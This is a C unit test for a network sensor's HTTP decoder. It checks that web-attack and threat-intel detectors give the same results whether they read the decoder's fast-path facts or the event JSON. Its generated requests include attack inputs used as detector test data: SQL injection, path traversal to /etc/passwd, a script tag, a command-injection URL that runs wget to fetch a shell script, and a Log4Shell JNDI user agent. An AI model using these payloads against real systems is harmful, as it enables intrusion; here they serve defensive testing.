/* SPDX-License-Identifier: Apache-2.0
 * The HTTP decoder's facts (http-facts.h) and their two readers (the
 * web-attack detector, the device inventory's user agents; the intel
 * detector's URL and host name checks), against the
 * JSON they stand for. Random HTTP requests and responses (attack and
 * plain URLs, tool and browser user agents, hosts that are names, bare
 * addresses or absent, methods GET, POST, HEAD and CONNECT, clients inside
 * and outside the home network over IPv4 and IPv6, headers missing or
 * holding bytes that are not text) go through the real decoder:
 *   - while the decoder hands its event over, the facts must say what the
 *     event's JSON says (a response or not, the request's texts as the
 *     event's own strings, src_ip as bytes), and only for that event's
 *     "http" object (not for a copy, and not after the hand-over);
 *   - the detector and an inventory given the event then (reading the
 *     facts) must raise the same alerts and keep the same device records
 *     as a second harness given the event's JSON text (reading the JSON,
 *     as for any other source of events). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "app-test.h"
#include "sensor/decode/http-facts.h"
#include "test-detect-harness.h"

extern const struct mm_detector mm_detector_web_attack, mm_detector_intel;
extern const struct mm_app_decoder mm_app_http;

#define WEB_INI "[detect.web-attack]\nsuppress_seconds = 0\nscan_sources = any\npaths = 3\n"

#define INTEL_INI "[detect.intel]\nsuppress_seconds = 0\n"
/* listed host names (one given with a port, one bare address) and URLs */
#define INTEL_FEED                                                                                 \
    "a.example\n"                                                                                  \
    "b.example\n"                                                                                  \
    "203.0.113.9\n"                                                                                \
    "http://dl.google.com/setup.exe\n"                                                             \
    "http://b.example/mirai.x86\n"                                                                 \
    "http://other.example/x\n"

static uint64_t rng_state;

static uint32_t rnd(void)
{
    rng_state = rng_state * 6364136223846793005ULL + 1442695040888963407ULL;
    return (uint32_t)(rng_state >> 33);
}

static const char *pick(const char *const *list, size_t n)
{
    return list[rnd() % n];
}

#define PICK(list) pick(list, sizeof list / sizeof list[0])

static const char *const clients[] = {"192.168.1.5", "192.168.1.6",  "10.9.8.7",
                                      "fd00::5",     "198.51.100.7", "2001:db8:1::5"};
static const uint8_t client_macs[][6] = {{2, 0, 0, 0, 1, 5}, {2, 0, 0, 0, 1, 6},
                                         {2, 0, 0, 0, 1, 7}, {2, 0, 0, 0, 1, 8},
                                         {2, 0, 0, 0, 1, 9}, {2, 0, 0, 0, 1, 10}};

/* ---- messages ------------------------------------------------------------------ */

/* A request (or a response) as bytes, with headers chosen at random. */
static size_t gen_request(char *out, size_t outlen)
{
    static const char *const methods[] = {"GET", "GET", "POST", "HEAD", "CONNECT"};
    static const char *const urls[] = {"/",
                                       "/index.html",
                                       "/x?id=1+union+select+1",
                                       "/../../etc/passwd",
                                       "/a?q=%3Cscript%3E",
                                       "/mirai.x86",
                                       "/setup.exe",
                                       "/p/%d",
                                       "http://other.example/x",
                                       "/s?token=abc&q=1",
                                       "/cgi-bin/;wget%20http://x/y.sh",
                                       "/img/a.png"};
    static const char *const hosts[] = {
        "a.example", "B.Example:8080", "203.0.113.9", "[2001:db8::9]", NULL, "dl.google.com"};
    static const char *const agents[] = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                                         "sqlmap/1.7",
                                         "Nikto/2.5",
                                         "${jndi:ldap://x/a}",
                                         "curl/8.0",
                                         "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X)",
                                         "bad\x01\xff bytes",
                                         NULL};
    const char *method = PICK(methods), *url = PICK(urls), *host = PICK(hosts), *ua = PICK(agents);
    char path[64];
    if (strcmp(url, "/p/%d") == 0) { /* many distinct paths: the web scan */
        snprintf(path, sizeof path, "/p/%u", rnd() % 40);
        url = path;
    }
    int n = snprintf(out, outlen, "%s %s HTTP/1.1\r\n", method, url);
    if (host)
        n += snprintf(out + n, outlen - (size_t)n, "Host: %s\r\n", host);
    if (ua)
        n += snprintf(out + n, outlen - (size_t)n, "%s: %s\r\n",
                      rnd() % 2 ? "User-Agent" : "user-agent", ua);
    if (rnd() % 3 == 0)
        n += snprintf(out + n, outlen - (size_t)n, "Referer: http://a.example/\r\n");
    n += snprintf(out + n, outlen - (size_t)n, "\r\n");
    return (size_t)n;
}

static size_t gen_response(char *out, size_t outlen)
{
    static const char *const lines[] = {"200 OK", "404 Not Found", "304 Not Modified",
                                        "101 Switching Protocols"};
    return (size_t)snprintf(out, outlen,
                            "HTTP/1.1 %s\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n",
                            PICK(lines));
}

/* ---- the facts against the JSON --------------------------------------------------- */

struct run {
    struct mm_sensor *fast, *ref;
    struct mm_sensor *intel_fast, *intel_ref; /* the intel detector, facts and JSON */
    unsigned events, with_facts;
};

static void expect_facts_match(const json_t *ev, const json_t *http,
                               const struct mm__http_facts *hf)
{
    assert_ptr_equal(hf->http, http);
    assert_int_equal(hf->response, json_object_get(http, "status") != NULL);
    assert_ptr_equal(hf->url, json_string_value(json_object_get(http, "url")));
    assert_ptr_equal(hf->hostname, json_string_value(json_object_get(http, "hostname")));
    assert_ptr_equal(hf->method, json_string_value(json_object_get(http, "http_method")));
    assert_ptr_equal(hf->user_agent, json_string_value(json_object_get(http, "http_user_agent")));
    const char *src = json_string_value(json_object_get(ev, "src_ip"));
    struct mm_addr a;
    assert_int_equal(hf->has_src, src != NULL);
    if (src) {
        assert_int_equal(mm_addr_parse(src, &a), 0);
        assert_int_equal(a.family, hf->src.family);
        assert_memory_equal(a.bytes, hf->src.bytes, 16);
    }
}

/* The decoder's emit: checks the facts, hands the event to the detector
 * and the inventory reading them and its JSON text to the reference. */
static void on_emit(struct mm_app_ctx *ctx, json_t *ev)
{
    struct run *run = ctx->emit_arg;
    const json_t *http = json_object_get(ev, "http");
    const struct mm__http_facts *hf = mm__http_facts_of(http);
    run->events++;
    if (hf) {
        run->with_facts++;
        expect_facts_match(ev, http, hf);
        json_t *copy = json_deep_copy(http);
        assert_null(mm__http_facts_of(copy)); /* only the event's own object */
        json_decref(copy);
    }
    char *text = json_dumps(ev, JSON_COMPACT);
    assert_non_null(text);
    struct mm_sensor *fast = run->fast;
    th_direct_event(fast, ev, http); /* prefetch_event, then on_event */
    mm_devices_on_event(fast->devices, ev);
    th_direct_event(run->intel_fast, ev, http);
    th_event(run->ref, text);
    th_event(run->intel_ref, text);
    free(text);
    json_decref(ev);
}

/* Both inventories hold the same record for every client. */
static void expect_same_devices(const struct mm_sensor *fast, const struct mm_sensor *ref)
{
    for (size_t c = 0; c < sizeof clients / sizeof clients[0]; c++) {
        const json_t *a = mm_devices_find_mac(fast->devices, client_macs[c]);
        const json_t *b = mm_devices_find_mac(ref->devices, client_macs[c]);
        assert_int_equal(a != NULL, b != NULL);
        if (a && !json_equal(a, b)) {
            char *fa = json_dumps(a, JSON_SORT_KEYS), *fb = json_dumps(b, JSON_SORT_KEYS);
            fail_msg("client %s:\n facts: %s\n JSON:  %s", clients[c], fa, fb);
        }
    }
}

/* A packet from each client with its MAC: the devices the user agents go to. */
static void create_devices(struct mm_sensor *s)
{
    for (size_t c = 0; c < sizeof clients / sizeof clients[0]; c++) {
        struct mm_packet p;
        th_ip_packet(&p, clients[c], 40000, strchr(clients[c], ':') ? "2001:db8::80" : "192.0.2.80",
                     80, 6, 0x10, NULL);
        p.has_eth = true;
        memcpy(p.src_mac, client_macs[c], 6);
        th_packet(s, &p);
    }
}

static void test_facts_and_readers(void **state)
{
    (void)state;
    struct run run = {0};
    run.fast = th_new(WEB_INI, NULL, NULL, &mm_detector_web_attack);
    run.ref = th_new(WEB_INI, NULL, NULL, &mm_detector_web_attack);
    run.intel_fast = th_new(INTEL_INI, INTEL_FEED, NULL, &mm_detector_intel);
    run.intel_ref = th_new(INTEL_INI, INTEL_FEED, NULL, &mm_detector_intel);
    create_devices(run.fast);
    create_devices(run.ref);
    rng_state = 5;
    char msg[1024];
    for (unsigned i = 0; i < 3000; i++) {
        bool response = rnd() % 3 == 0;
        size_t c = rnd() % (sizeof clients / sizeof clients[0]);
        const char *client = clients[c];
        const char *server = strchr(client, ':') ? "2001:db8::80" : "192.0.2.80";
        struct app_run ar;
        app_run_init(&ar, &mm_app_http, response ? 80 : 40000, response ? 40000 : 80);
        ar.pkt.ip_version = strchr(client, ':') ? 6 : 4;
        mm_addr_parse(response ? server : client, &ar.pkt.src);
        mm_addr_parse(response ? client : server, &ar.pkt.dst);
        ar.ctx.emit = on_emit;
        ar.ctx.emit_arg = &run;
        th_set_time(run.fast, 1775001600.0 + i * 3.0);
        th_set_time(run.ref, 1775001600.0 + i * 3.0);
        th_set_time(run.intel_fast, 1775001600.0 + i * 3.0);
        th_set_time(run.intel_ref, 1775001600.0 + i * 3.0);
        size_t n = response ? gen_response(msg, sizeof msg) : gen_request(msg, sizeof msg);
        assert_int_equal(app_run_stream(&ar, response, (const uint8_t *)msg, n), 0);
        app_run_free(&ar);
        assert_null(mm__http_facts_of(NULL));
        th_expect_same_alerts_but_source(run.fast, run.ref, i);
        th_expect_same_alerts_but_source(run.intel_fast, run.intel_ref, i);
        if (i % 100 == 99)
            expect_same_devices(run.fast, run.ref);
    }
    expect_same_devices(run.fast, run.ref);
    /* the test means something: nearly every event went the facts way, the
     * detector raised most of its variants, and user agents reached the
     * devices' records */
    assert_true(run.with_facts == run.events);
    assert_true(run.events > 2900);
    static const unsigned variants[] = {1, 2, 3, 5, 6, 7, 8, 9};
    for (size_t v = 0; v < sizeof variants / sizeof variants[0]; v++)
        if (th_count_alerts(run.ref, 9101100 + variants[v]) < 5)
            fail_msg("variant %u: %zu alerts", variants[v],
                     th_count_alerts(run.ref, 9101100 + variants[v]));
    /* intel: host names (listed, with a port, a bare address) and URLs */
    if (th_count_alerts(run.intel_ref, 9100104) < 100 ||
        th_count_alerts(run.intel_ref, 9100105) < 50)
        fail_msg("intel: %zu host, %zu URL alerts", th_count_alerts(run.intel_ref, 9100104),
                 th_count_alerts(run.intel_ref, 9100105));
    const json_t *rec = mm_devices_find_mac(run.ref->devices, client_macs[0]);
    assert_true(json_array_size(json_object_get(rec, "user_agents")) > 1);
    th_free(run.fast);
    th_free(run.ref);
    th_free(run.intel_fast);
    th_free(run.intel_ref);
}

/* The sensor frees an event once handled and then handles the events
 * queued behind it (alerts, device announcements) while the decoder's
 * hand-over still runs: objects made then may get the freed "http"
 * object's address, and must not get its facts. The decoder holds the
 * object while its facts are published, so the address cannot come back. */
#define FRESH_OBJECTS 32

static void on_emit_then_allocate(struct mm_app_ctx *ctx, json_t *ev)
{
    unsigned *checked = ctx->emit_arg;
    json_t *fresh[FRESH_OBJECTS];
    assert_non_null(mm__http_facts_of(json_object_get(ev, "http")));
    json_decref(ev); /* handled: the sensor lets it go */
    for (size_t i = 0; i < FRESH_OBJECTS; i++) {
        fresh[i] = json_object();
        assert_non_null(fresh[i]);
        assert_null(mm__http_facts_of(fresh[i]));
    }
    for (size_t i = 0; i < FRESH_OBJECTS; i++)
        json_decref(fresh[i]);
    (*checked)++;
}

static void test_facts_not_for_reused_address(void **state)
{
    (void)state;
    unsigned checked = 0;
    char msg[1024];
    rng_state = 11;
    for (unsigned i = 0; i < 200; i++) {
        struct app_run ar;
        app_run_init(&ar, &mm_app_http, 40000, 80);
        ar.pkt.ip_version = 4;
        mm_addr_parse("192.168.1.5", &ar.pkt.src);
        mm_addr_parse("192.0.2.80", &ar.pkt.dst);
        ar.ctx.emit = on_emit_then_allocate;
        ar.ctx.emit_arg = &checked;
        size_t n = gen_request(msg, sizeof msg);
        assert_int_equal(app_run_stream(&ar, 0, (const uint8_t *)msg, n), 0);
        app_run_free(&ar);
    }
    assert_int_equal(checked, 200);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_facts_and_readers),
        cmocka_unit_test(test_facts_not_for_reused_address),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
